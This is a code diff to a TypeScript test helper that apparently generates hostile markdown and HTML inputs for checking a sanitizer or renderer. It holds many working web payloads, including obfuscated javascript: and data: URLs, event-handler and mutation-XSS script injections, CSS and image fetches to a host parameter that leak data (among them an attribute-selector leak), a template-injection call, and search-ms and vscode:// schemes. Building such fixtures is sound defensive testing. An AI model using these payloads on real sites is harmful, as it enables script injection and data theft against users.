@@ -99,5 +99,109 @@ export function hostileSnippets(host: string): string[] {
     `</textarea><img src="${url}/textarea.png">`,
     `<dialog open><img src="${url}/dialog.png"></dialog>`,
   ]
-  return [...markdown, ...html]
+  return [
+    ...markdown,
+    ...html,
+    ...makeAddresses(host, run),
+    ...makeStyles(url),
+    ...makeEvents(run),
+    ...makeDisguises(url, run),
+  ]
+}
+
+/** Addresses of every kind behind a link, an image and a definition, and in every place that text can stand in. */
+function makeAddresses(host: string, run: string): string[] {
+  const url = `http://${host}`
+  const schemes = [
+    ...[`\u0001javascript:${run}`, `javascript&colon;${run}`, `java&Tab;script:${run}`, `javascript\u200b:${run}`],
+    ...[
+      `feed:javascript:${run}`,
+      `view-source:javascript:${run}`,
+      `jar:${url}!/x`,
+      `blob:${url}/x`,
+      `filesystem:${url}/x`,
+    ],
+    ...[`data:text/html,<script>${run}</script>`, `data:image/svg+xml,<svg onload="${run}">`, `data:;base64,PHN2Zz4=`],
+    ...[`ftp://${host}/x`, `ws://${host}/x`, `sftp://${host}/x`, `mailto:a@${host}`, `tel:+1`, `sms:+1`, `callto:a`],
+    ...[`ms-msdt:/id`, `search-ms:query=x&crumb=location:\\\\${host}`, `vscode://file/etc/passwd`, `skillet://app/x`],
+    ...[`about:srcdoc`, `chrome://gpu`, `devtools://devtools/x`, `http:${host}`, `http:/\\${host}`, `\\/\\/${host}/x`],
+  ]
+  const image = (name: string) => `![x](${url}/${name}.png)`
+  const places = [
+    ...[`**${image('strong')}**`, `_${image('emphasis')}_`, `~~${image('struck')}~~`, `1. ${image('ordered')}`],
+    ...[`- - - ${image('deep')}`, `> > ${image('quotes')}`, `${image('setext')}\n===`, `###### ${image('small')}`],
+    ...[`[${image('a')} ${image('b')}](${url}/two)`, `![${image('in-alt')}](${url}/outer.png)`, `a ${image('x')} b`],
+    ...[`|${image('head')}|\n|:-:|\n|x|`, `![x][]\n\n[x]: ${url}/collapsed.png`, `![y]\n\n[y]: ${url}/short.png`],
+    ...[`![x](${url}/spaces.png  "a\nb")`, `![x](${url}/paren(s).png)`, `![x](${url}/%2e%2e/up.png)`],
+    ...[
+      `[z]: <${url}/angle> 'title'\n\n![z]`,
+      `http://${host}/bare`,
+      `https://${host}/bare`,
+      `a@${host}`,
+      `<a@${host}>`,
+    ],
+  ]
+  return [
+    ...schemes.flatMap((address) => [`[x](<${address}>)`, `![x](<${address}>)`]),
+    ...schemes.slice(0, 12).map((address) => `[d]\n\n[d]: <${address}>`),
+    ...places,
+  ]
+}
+
+/** What a style, a font or a drawing would fetch. */
+function makeStyles(url: string): string[] {
+  const properties = 'background-image border-image-source list-style-image cursor content mask-image filter clip-path'
+  const drawings = 'feImage image use linearGradient pattern textPath mpath tref script a cursor animate'
+  return [
+    ...properties.split(' ').map((name) => `<p style="${name}:url(${url}/${name}.png)">x</p>`),
+    ...properties.split(' ').map((name) => `<style>p{${name}:url('${url}/sheet-${name}.png')}</style>`),
+    ...drawings
+      .split(' ')
+      .map((name) => `<svg><${name} href="${url}/${name}.svg" xlink:href="${url}/x-${name}.svg"/></svg>`),
+    `<style>@import '${url}/import.css' screen;</style>`,
+    `<style>p{background:image-set('${url}/set.png' 1x)}</style>`,
+    `<style>@namespace url(${url}/namespace);</style>`,
+    `<style>input[value^=a]{background:url(${url}/leak-a)}</style>`,
+    `<p style="background:\\75rl(${url}/escaped.png)">x</p>`,
+    `<p style="behavior:url(${url}/x.htc)">x</p>`,
+  ]
+}
+
+function makeEvents(run: string): string[] {
+  const events =
+    'onmouseover onwheel onpaste oncopy ondrag oninput onchange onsubmit onreset onscroll onresize onhashchange ' +
+    'onmessage onpageshow ontransitionend onbeforetoggle onsecuritypolicyviolation onkeydown onfocusin onauxclick'
+  return events.split(' ').flatMap((event) => [`<p ${event}="${run}">x</p>`, `<body ${event}='${run}'>`])
+}
+
+/** Markup that becomes another once it is read a second time, and text for readers that are not here. */
+function makeDisguises(url: string, run: string): string[] {
+  const image = `<img src=${url}/disguised.png onerror=${run}>`
+  const wrappers = 'title textarea xmp plaintext noframes iframe style script select option math svg frameset'.split(
+    ' ',
+  )
+  return [
+    ...wrappers.map((name) => `<${name}><p id="</${name}>${image}">`),
+    ...wrappers.map((name) => `<math><mi><${name}>${image}</${name}></mi></math>`),
+    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
+    `<svg></p><style><a id="</style>${image}">`,
+    `<a title="--><!--${image}">x</a>`,
+    `<!--!>${image}-->`,
+    `<img/src="${url}/slash.png"/onerror=${run}>`,
+    `<IMG SRC=\u0000"${url}/nul.png">`,
+    `<\u017fcript>${run}</\u017fcript>`,
+    `&lt;img src="${url}/entity.png"&gt;`,
+    `&#60;script&#62;${run}&#60;/script&#62;`,
+    `\\<img src="${url}/escaped.png">`,
+    `%3Cscript%3E${run}%3C/script%3E`,
+    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+    `$\\href{javascript:${run}}{x}$`,
+    `$$\\includegraphics{${url}/tex.png}$$`,
+    `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${run}"\n\`\`\``,
+    `\`\`\`mermaid\n%%{init:{"themeCSS":"@import url(${url}/mermaid.css)"}}%%\ngraph TD\n\`\`\``,
+    `\`\`\`svg\n<svg onload="${run}"/>\n\`\`\``,
+    `\`\`\`"><img src=${url}/info.png>\ntext\n\`\`\``,
+    `{{constructor.constructor('${run}')()}}`,
+    `\u001b]8;;${url}/osc\u0007x\u001b]8;;\u0007`,
+  ]
 }
